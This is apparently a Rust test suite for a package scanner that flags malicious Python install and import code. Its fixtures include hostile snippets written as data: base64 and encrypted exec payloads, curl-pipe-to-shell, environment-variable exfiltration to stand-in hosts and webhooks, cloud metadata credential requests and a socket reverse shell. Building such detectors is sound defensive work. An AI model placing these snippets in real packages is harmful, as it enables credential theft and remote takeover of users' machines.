use super::{
    MALICIOUS_PACKAGE_CODE, PACKAGE_CAPABILITY, PackageCode, PackageScript, SUSPICIOUS_PACKAGE_CODE, Seen,
};
use crate::{Subject, distribution::DistributionFacts, testing::findings};
use std::{collections::BTreeMap, sync::Arc};
use wellhead_core::{ArtifactPath, Budget, Finding};
use wellhead_formats::format::table;
use wellhead_packages::distribution::{Contained, DistributionKind, Parts, Shape, read};
use wellhead_pycode::{SourceFile, analyse_package, deeds, parse};

fn judge(files: &[(&str, &str)]) -> Vec<Finding> {
    let mut budget = Budget::default();
    let artifact = ArtifactPath::file("acme-1.0.tar.gz");
    let member = |(path, text): &(&str, &str)| Contained {
        path: (*path).to_owned(),
        size: text.len() as u64,
        digest: None,
        format: &table::PYTHON,
        text: Some(Arc::from(*text)),
    };
    let parts = Parts {
        file: "acme-1.0.tar.gz".to_owned(),
        shape: Shape {
            kind: DistributionKind::Folder,
            root: String::new(),
        },
        members: files.iter().map(member).collect(),
        whole: true,
        container: Vec::new(),
    };
    let distribution = read(&parts, &mut budget);
    let scripts = files.iter().map(|(path, text)| {
        let module = parse(text, &mut budget);
        let script = PackageScript {
            artifact: artifact.member(*path),
            trigger: distribution.member(path).unwrap().trigger,
            text: Arc::from(*text),
            deeds: deeds(&module, &mut budget),
            module,
        };
        ((*path).to_owned(), script)
    });
    let scripts = scripts.collect();
    let sources: Vec<_> = files
        .iter()
        .map(|(path, text)| SourceFile { path, text })
        .collect();
    let analysis = analyse_package(&sources, &mut budget);
    let facts = DistributionFacts {
        artifact,
        distribution,
        places: BTreeMap::new(),
        texts: BTreeMap::new(),
        code: PackageCode { scripts, analysis },
        seen: Seen::default(),
        startup: Vec::new(),
    };
    let mut found = findings("acme-1.0.tar.gz", Subject::Distribution(&facts));
    found.retain(|f| [MALICIOUS_PACKAGE_CODE.id, SUSPICIOUS_PACKAGE_CODE.id].contains(&&*f.rule));
    found
}

/// The worst severity that is found, and the terms of all.
fn worst(files: &[(&str, &str)]) -> &'static str {
    let found = judge(files);
    found.iter().map(|f| f.severity).max().map_or("", |s| s.name())
}

#[test]
fn a_whole_path_that_runs_by_itself_is_critical() {
    for (path, source) in [
        ("setup.py", "import base64\nexec(base64.b64decode('aWQ='))\n"),
        (
            "setup.py",
            "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        \
             from cryptography.fernet import Fernet\n        exec(Fernet(b'k').decrypt(b'x'))\nsetup(cmdclass={'install': I})\n",
        ),
        (
            "setup.py",
            "import urllib.request as u\nexec(u.urlopen('https://a.example/x').read())\n",
        ),
        (
            "setup.py",
            "import os\nos.system('curl https://a.example/x | sh')\n",
        ),
        (
            "acme/__init__.py",
            "import requests\nexec(requests.get('https://a.example/x').text)\n",
        ),
        (
            "acme/__init__.py",
            "import os, requests\nrequests.post('https://a.example', json=dict(os.environ))\n",
        ),
        ("acme.pth", "import base64; exec(base64.b64decode('aWQ='))\n"),
        (
            "acme/__init__.py",
            "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABv', shell=True)\n",
        ),
        (
            "setup.py",
            "import socket, requests\nrequests.get('https://a.example', params={'h': socket.gethostname()})\n",
        ),
    ] {
        assert_eq!(worst(&[(path, source)]), "critical", "{path}: {source}");
    }
}

#[test]
fn what_another_file_imports_runs_with_it() {
    let payload = "import base64\nexec(base64.b64decode('aWQ='))\n";
    assert_eq!(
        worst(&[
            ("acme/__init__.py", "from ._x import go\n"),
            ("acme/_x.py", payload)
        ]),
        "critical"
    );
    // Nothing imports it, and whoever does runs it.
    assert_eq!(
        worst(&[("acme/__init__.py", ""), ("acme/_x.py", payload)]),
        "critical"
    );
    let innocent = "import base64\ndef load(s):\n    exec(base64.b64decode(s))\n";
    assert_eq!(worst(&[("acme/__init__.py", ""), ("acme/_x.py", innocent)]), "");
    assert_eq!(
        worst(&[("setup.py", "import helper\n"), ("tools/helper.py", payload)]),
        ""
    );
}

#[test]
fn what_only_the_program_of_a_package_calls_is_not_run_by_its_import() {
    let fetching = "import requests\ndef go():\n    exec(requests.get('https://a.example/x').text)\n";
    let program = "from acme.net import go\ngo()\n";
    let files = [
        ("acme/__init__.py", "from . import net\n"),
        ("acme/net.py", fetching),
        ("acme/__main__.py", program),
    ];
    assert_ne!(worst(&files), "critical");
    let files = [
        ("acme/__init__.py", "from .net import go\ngo()\n"),
        ("acme/net.py", fetching),
    ];
    assert_eq!(worst(&files), "critical");
}

#[test]
fn parts_of_a_path_are_to_be_reviewed() {
    for (path, source) in [
        (
            "setup.py",
            "import requests, subprocess\nd = requests.get('https://a.example/x').content\nopen('x', 'wb').write(d)\nsubprocess.Popen(['./x'])\n",
        ),
        (
            "setup.py",
            "import socket, requests\nh = socket.gethostname()\nu = 'https://webhook.site/' + h\nrequests.get(u)\n",
        ),
    ] {
        let found = worst(&[(path, source)]);
        assert!(
            ["medium", "high", "critical"].contains(&found),
            "{source}: {found}"
        );
    }
}

#[test]
fn the_innocent_twins_are_left_alone() {
    for (path, source) in [
        ("setup.py", "exec(open('acme/_version.py').read())\n"),
        (
            "setup.py",
            "import re\nversion = re.search('x', open('acme/__init__.py').read()).group(1)\n",
        ),
        (
            "setup.py",
            "import subprocess\nsubprocess.check_output(['git', 'describe'])\n",
        ),
        (
            "setup.py",
            "import os, subprocess\nsubprocess.check_call(['cmake', '..'], env=dict(os.environ, A='1'))\n",
        ),
        (
            "setup.py",
            "import urllib.request, os\ndef run(self):\n    urllib.request.urlretrieve('https://files.example/a.whl', 'a.whl')\n    os.rename('a.whl', 'b.whl')\n",
        ),
        (
            "acme/__init__.py",
            "import requests, os\ndef get(u):\n    return requests.get(u, headers={'Authorization': os.environ['ACME_TOKEN']})\n",
        ),
        (
            "acme/__init__.py",
            "import base64, json\ndef load(s):\n    return json.loads(base64.b64decode(s))\n",
        ),
        (
            "acme/__init__.py",
            "import socket\nADDRESS = socket.gethostbyname(socket.gethostname())\n",
        ),
        (
            "acme/__init__.py",
            "import subprocess, sys\ndef main():\n    subprocess.run([sys.executable, '-m', 'acme'])\n",
        ),
        (
            "tests/test_x.py",
            "import base64\nexec(base64.b64decode('aWQ='))\n",
        ),
        (
            "acme.pth",
            "# import base64; exec(base64.b64decode('aWQ='))\n../src\n",
        ),
        (
            "acme/_compat.py",
            "import array\nfor mod in (array,):\n    exec(f'from {mod.__name__} import *')\n",
        ),
        ("acme/__init__.py", ""),
        ("acme/__init__.py", "def broken(:\n"),
    ] {
        let found = judge(&[(path, source)]);
        assert!(
            found.is_empty(),
            "{path}: {source}: {:?}",
            found.iter().map(|f| (&f.message, &f.notes)).collect::<Vec<_>>()
        );
    }
}

#[test]
fn the_sum_that_is_printed_is_the_score() {
    let found = judge(&[("setup.py", "import base64\nexec(base64.b64decode('aWQ='))\n")]);
    let [finding] = found.as_slice() else {
        panic!("{found:?}")
    };
    assert_eq!(
        finding.message,
        "`setup.py` of this package runs code that is hidden in data when it is installed"
    );
    let sum = finding.notes.iter().find(|n| n.starts_with("score ")).unwrap();
    let (total, terms) = sum.trim_start_matches("score ").split_once(": ").unwrap();
    let added: f64 = terms
        .split(" + ")
        .map(|t| t.rsplit(' ').next().unwrap().parse::<f64>().unwrap())
        .sum();
    assert!((total.parse::<f64>().unwrap() - added).abs() < 0.01, "{sum}");
}

#[test]
fn hostile_names_are_quoted_safely() {
    let found = judge(&[(
        "acme\u{1b}[31m/__init__.py",
        "import base64\nexec(base64.b64decode('aWQ='))\n",
    )]);
    assert!(!found.is_empty());
    assert!(found.iter().all(|f| !f.message.contains('\u{1b}')), "{found:?}");
}

#[test]
fn what_somebody_has_to_ask_for_is_told_by_its_other_end() {
    let fetch =
        |url: &str| format!("import requests\ndef update(url):\n    exec(requests.get({url}).text)\n");
    for (url, expected) in [
        // The caller says what is fetched, or the project's own host has it in many versions.
        ("url", ""),
        ("f'https://files.acme.example/{url}.py'", ""),
        ("'https://files.acme.example/x.py'", "medium"),
        ("'https://pastebin.com/raw/x'", "critical"),
        ("'http://203.0.113.9/x'", "critical"),
        ("'http://127.0.0.1:8000/x'", "medium"),
    ] {
        let text = fetch(url);
        assert_eq!(worst(&[("acme/__init__.py", &text)]), expected, "{text}");
    }
    for (address, expected) in [
        ("url", ""),
        ("'https://discord.com/api/webhooks/123/abc'", "critical"),
        ("f'https://discord.com/api/webhooks/{url}'", "high"),
    ] {
        let text = format!(
            "import os, requests\ndef send(url):\n    requests.post({address}, json=dict(os.environ))\n"
        );
        assert_eq!(worst(&[("acme/__init__.py", &text)]), expected, "{text}");
    }
}

#[test]
fn whom_a_function_speaks_to_is_not_hidden() {
    for (address, expected) in [
        // `http://files.acme.example/x`, its twin in the open, and one of which only a parameter is decoded.
        (
            "base64.b64decode('aHR0cDovL2ZpbGVzLmFjbWUuZXhhbXBsZS94').decode()",
            "critical",
        ),
        ("'http://files.acme.example/x'", ""),
        (
            "'http://files.acme.example/x?key=' + base64.b64decode(key).decode()",
            "",
        ),
        ("base64.b64decode(key).decode()", ""),
        // A host of many in the open, and whose place there it is in data.
        (
            "'https://github.com/' + base64.b64decode('ZXZpbG9uZS94').decode()",
            "critical",
        ),
    ] {
        let text =
            format!("import base64, requests\ndef fetch(key):\n    return requests.get({address}).text\n");
        assert_eq!(worst(&[("acme/__init__.py", &text)]), expected, "{text}");
    }
}

#[test]
fn files_are_sent_to_nobody_without_a_name() {
    for (address, expected) in [
        ("http://203.0.113.9/x", "critical"),
        ("https://upload.acme.example/x", ""),
    ] {
        let text = format!(
            "import requests\nwith open('/home/prices.txt') as f:\n    requests.post('{address}', data=f.read())\n"
        );
        let found = worst(&[("setup.py", &text)]);
        assert_eq!(found == "critical", expected == "critical", "{text}: {found}");
    }
}

#[test]
fn an_address_that_takes_what_anybody_sends_is_told_nothing_unasked() {
    let call = "import requests\nrequests.get('https://webhook.site/1-2')\n";
    assert_eq!(worst(&[("acme/__init__.py", call)]), "critical");
    assert_eq!(worst(&[("setup.py", call)]), "critical");
    for innocent in [
        "HELP = 'send it to https://webhook.site/1-2'\nprint(HELP)\n",
        "import re\nKNOWN = re.compile('webhook.site')\n",
        "import requests\ndef f(token):\n    requests.post('https://api.telegram.org/bot' + token)\n",
    ] {
        assert_eq!(worst(&[("acme/__init__.py", innocent)]), "", "{innocent}");
    }
}

#[test]
fn a_file_is_followed_by_its_name_from_where_it_is_fetched_to_where_it_is_started() {
    for (source, expected) in [
        (
            "import os, requests\nwith open('m.py', 'wb') as f:\n    f.write(requests.get('https://a.example/m').content)\nos.system('py m.py')\n",
            "critical",
        ),
        (
            "import os, urllib.request\nurllib.request.urlretrieve('https://a.example/m', 'tool.exe')\nos.system('start tool.exe')\n",
            "critical",
        ),
        // Both stand together, and what is started is something else.
        (
            "import os, urllib.request\nurllib.request.urlretrieve('https://a.example/m', 'data.csv')\nos.system('make all')\n",
            "",
        ),
    ] {
        let found = worst(&[("setup.py", source)]);
        assert_eq!(found == "critical", expected == "critical", "{source}: {found}");
    }
}

#[test]
fn a_way_through_tests_is_no_way_of_the_package() {
    let run = "import subprocess\nimport requests\ndef launch(url):\n    open('t', 'wb').write(requests.get(url).content)\n    subprocess.run(['./t'])\n";
    let tests = "from acme import launch\nlaunch('https://a.example/t')\n";
    let found = worst(&[("acme/__init__.py", run), ("tests/test_acme.py", tests)]);
    assert_ne!(found, "critical");
}

#[test]
fn what_only_a_program_beside_the_package_calls_is_not_run_by_its_import() {
    let net = "import httpx, os, subprocess\nURL = f'https://files.acme.example/tool-{os.name}'\nFILE = 'tool'\ndef get():\n    r = httpx.get(URL)\n    \
               with open(FILE, 'wb') as f:\n        f.write(r.content)\n    os.chmod(FILE, 0o755)\n    subprocess.Popen([FILE, 'http'])\n";
    let program = "import acme\nfrom acme.net import get\nget()\n";
    let package = |init: &'static str| [("acme/__init__.py", init), ("acme/net.py", net)];
    for (path, expected) in [
        ("demo/chat/run.py", ""),
        ("acme/chat/run.py", ""),
        ("setup.py", "critical"),
    ] {
        let mut files = package("from . import net\n").to_vec();
        files.push((path, program));
        let found = worst(&files);
        assert_eq!(found == "critical", expected == "critical", "{path}: {found}");
    }
    // Its own import does the same, whoever else does.
    let mut files = package("from .net import get\nget()\n").to_vec();
    files.push(("demo/chat/run.py", program));
    assert_eq!(worst(&files), "critical");
}

#[test]
fn what_a_program_reads_is_run_only_by_an_interpreter() {
    for (command, expected) in [
        ("[plugin]", ""),
        ("['gpg', '--import']", ""),
        ("['sh']", "critical"),
        ("[sys.executable, '-']", "critical"),
        ("'bash -s', shell=True", "critical"),
    ] {
        let text = format!(
            "import base64, subprocess, sys, os\nplugin = os.environ['ACME_PLUGIN']\nsubprocess.run({command}, input=base64.b64decode('ZWNobyAx'))\n"
        );
        let found = worst(&[("acme/__init__.py", &text)]);
        assert_eq!(found == "critical", expected == "critical", "{text}: {found}");
    }
}

#[test]
fn a_text_that_another_file_of_the_package_spells_out_is_not_hidden() {
    let sync = "def write(path, data):\n    with open(path, 'wb') as f:\n        f.write(data)\n";
    for (api, hidden) in [
        (
            "from .sync import write\ndef install(folder):\n    write(folder + '/_acme.pth', b'import _acme')\n",
            false,
        ),
        (
            "import base64\nfrom .sync import write\ndef install(folder):\n    write(folder + '/_acme.pth', base64.b64decode('aW1wb3J0IF9hY21l'))\n",
            true,
        ),
    ] {
        let found = judge(&[
            ("acme/__init__.py", ""),
            ("acme/sync.py", sync),
            ("acme/api.py", api),
        ]);
        let told = found.iter().any(|f| f.message.contains("hidden in data"));
        assert_eq!(told, hidden, "{api}: {found:?}");
    }
}

#[test]
fn a_program_that_is_only_started_by_hand_hides_nothing_either() {
    let payload = "import base64\nexec(base64.b64decode('aWQ='))\n";
    assert_eq!(
        worst(&[("acme/__init__.py", ""), ("acme/__main__.py", payload)]),
        "critical"
    );
    // A folder from which nothing can be imported is no excuse.
    assert_eq!(
        worst(&[("acme/__init__.py/acme/__init__.py", payload)]),
        "critical"
    );
    let innocent = "import sys\nfrom acme import main\nif __name__ == '__main__':\n    sys.exit(main())\n";
    assert_eq!(
        worst(&[
            ("acme/__init__.py", "def main():\n    return 0\n"),
            ("acme/__main__.py", innocent)
        ]),
        ""
    );
}

#[test]
fn a_temporary_file_is_followed_to_the_program_that_is_given_it() {
    let program = |write: &str, start: &str| {
        format!(
            "import os, sys, subprocess\nfrom tempfile import NamedTemporaryFile as file\nclass A:\n    t = file(delete=False)\n    t.write({write})\n    t.close()\n    {start}\n"
        )
    };
    let fetching = "b\"from urllib.request import urlopen;exec(urlopen('https://a.example/x').read())\"";
    for (write, start, expected) in [
        (
            fetching,
            "os.system(f'start {sys.executable} {t.name}')",
            "critical",
        ),
        (fetching, "subprocess.Popen([sys.executable, t.name])", "critical"),
        (
            fetching,
            "os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {t.name}\")",
            "critical",
        ),
        (
            "b\"from urllib.request import urlopen, Request;exec(urlopen(Request(url='https://paste.fo/x', headers={})).read())\"",
            "os.system(f'start {sys.executable} {t.name}')",
            "critical",
        ),
        (fetching, "print(t.name)", ""),
        ("b'hello'", "subprocess.run(['cat', t.name])", ""),
    ] {
        let text = program(write, start);
        let found = worst(&[("acme/__init__.py", ""), ("acme/color.py", &text)]);
        assert_eq!(found == "critical", expected == "critical", "{text}: {found}");
    }
}

#[test]
fn code_in_a_page_of_mainframes_is_hidden() {
    // `print(1)` in code page 1026.
    for (text, expected) in [
        (
            "exec(b'\\x97\\x99\\x89\\x95\\xa3\\x4d\\xf1\\x5d'.decode('cp1026'))\n",
            "critical",
        ),
        ("exec(b'print(1)'.decode('utf-8'))\n", ""),
        ("print(b'\\x97'.decode('cp500'))\n", ""),
    ] {
        assert_eq!(worst(&[("acme/__init__.py", text)]), expected, "{text}");
    }
}

#[test]
fn whoever_says_where_a_program_is_fetched_says_what_is_run() {
    let text = |first: &str| {
        format!(
            "import requests, os\ndef start():\n    url = requests.get('{first}').text\n    with open('x.exe', 'wb') as f:\n        f.write(requests.get(url).content)\n    os.system('start x.exe')\n"
        )
    };
    assert_eq!(
        worst(&[("acme/__init__.py", &text("https://pastebin.com/raw/x"))]),
        "critical"
    );
    // Its own host may say which version there is.
    assert_ne!(
        worst(&[("acme/__init__.py", &text("https://acme.example/latest"))]),
        "critical"
    );
}

#[test]
fn what_is_fetched_does_not_start_with_the_host() {
    let text = |folder: &str| {
        format!(
            "import os, requests\ndef download(url, name):\n    path = os.path.join(os.path.expanduser('{folder}'), name)\n    with open(path, 'wb') as f:\n        f.write(requests.get(url).content)\n"
        )
    };
    let autostart =
        text("~\\\\AppData\\\\Roaming\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup");
    assert_eq!(
        worst(&[("acme/__init__.py", ""), ("acme/download.py", &autostart)]),
        "high"
    );
    assert_eq!(
        worst(&[
            ("acme/__init__.py", ""),
            ("acme/download.py", &text("~/.cache/acme"))
        ]),
        ""
    );
}

#[test]
fn a_machine_of_a_cloud_is_not_asked_for_its_credentials_unasked() {
    let ask = "requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text";
    let command = "os.system(\"curl http://169.254.169.254/latest/user-data > x\")";
    for (path, text, expected) in [
        ("setup.py", format!("import requests\nprint({ask})\n"), "high"),
        ("setup.py", format!("import os\n{command}\n"), "high"),
        (
            "acme/__init__.py",
            format!("import requests\ndef role():\n    return {ask}\n"),
            "",
        ),
        (
            "setup.py",
            "import requests\nprint(requests.get('http://169.254.0.1/x').text)\n".to_owned(),
            "",
        ),
    ] {
        assert_eq!(worst(&[(path, &text)]), expected, "{path}: {text}");
    }
}

#[test]
fn a_module_that_is_handed_over_as_data_is_unreadable() {
    let data = "\\x50".repeat(600);
    let sold =
        format!("from pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, b'{data}')\n");
    assert_eq!(worst(&[("acme/__init__.py", &sold)]), "medium");
    let table = format!("import array\nTABLE = array.array('B', b'{data}')\n");
    assert_eq!(worst(&[("acme/__init__.py", &table)]), "");
    let logger = "import logging\nlog = logging.getLogger(__name__)\n";
    assert_eq!(worst(&[("acme/__init__.py", logger)]), "");
}

#[test]
fn the_own_host_of_a_project_is_less_suspicious_where_somebody_asks() {
    let about = |url: &str| {
        format!("Metadata-Version: 2.1\nName: kit-tool\nVersion: 1\nHome-page: {url}\n\nA kit.\n")
    };
    let (own, other) = (
        about("https://partner.example/kit"),
        about("https://elsewhere.example"),
    );
    let fetch =
        "import requests\ndef update():\n    exec(requests.get('https://files.partner.example/x.py').text)\n";
    let unasked = format!("{fetch}update()\n");
    let secrets = "import requests, os\ndef send():\n    requests.post('https://files.partner.example/x', json=dict(os.environ))\n";
    for (metadata, text, expected) in [
        (&own, fetch, ""),
        (&other, fetch, "medium"),
        // What nobody asks for, and what is done with secrets, is as bad whatever the metadata say.
        (&own, unasked.as_str(), "critical"),
        (&own, secrets, "medium"),
        (&other, secrets, "medium"),
    ] {
        assert_eq!(
            worst(&[("PKG-INFO", metadata), ("kit/__init__.py", text)]),
            expected,
            "{metadata}{text}"
        );
    }
}

#[test]
fn a_shell_stands_open_where_a_socket_takes_the_place_of_the_terminal() {
    let shell = |dup: &str, start: &str| {
        format!(
            "import os, socket, pty\ns = socket.socket()\ns.connect(('203.0.113.9', 4444))\nlog = open('log', 'w')\nos.dup2({dup}, 0)\n{start}\n"
        )
    };
    for (text, expected) in [
        (shell("s.fileno()", "pty.spawn('/bin/sh')"), true),
        (shell("s.fileno()", "print(1)"), false),
        (shell("log.fileno()", "pty.spawn('/bin/sh')"), false),
    ] {
        let found = judge(&[("setup.py", &text)]);
        let told = found.iter().any(|f| f.severity.name() == "critical");
        assert_eq!(told, expected, "{text}: {found:?}");
    }
}

#[test]
fn what_only_stands_together_is_never_blocked() {
    for text in [
        // Both in one function, and nothing joins them.
        "import os, tempfile\nopen('notes.txt', 'w').write('import x; exec(urlopen())')\nt = tempfile.NamedTemporaryFile()\nt.write(b'hello')\nos.system('cat ' + t.name)\n",
        "import os\nos.system('curl -o data.csv https://a.example/x && start notes.txt')\n",
        "import os\nos.system('ping a.example && echo `hostname`')\n",
    ] {
        assert_ne!(worst(&[("setup.py", text)]), "critical", "{text}");
    }
}

#[test]
fn a_finding_names_the_digest_of_its_lines_and_says_why() {
    let one = judge(&[("setup.py", "import base64\nexec(base64.b64decode('aWQ='))\n")]);
    let two = judge(&[(
        "setup.py",
        "# moved\nimport base64\nif True:\n    exec(base64.b64decode('aWQ='))\n",
    )]);
    assert!(
        one[0].properties["snippet"]
            .as_str()
            .unwrap()
            .starts_with("sha256:")
    );
    assert_eq!(one[0].properties["snippet"], two[0].properties["snippet"]);
    let why = "what is run stands in the file only in a form that nobody can read";
    assert!(one[0].notes.iter().any(|n| n == why), "{:?}", one[0].notes);
}

#[test]
fn what_a_package_can_do_is_listed_for_whoever_asks() {
    assert_eq!(PACKAGE_CAPABILITY.status, wellhead_core::RuleStatus::Preview);
    let text = "import subprocess\ndef version():\n    return subprocess.run(['git', 'describe'])\n";
    assert_eq!(worst(&[("acme/__init__.py", text)]), "");
}
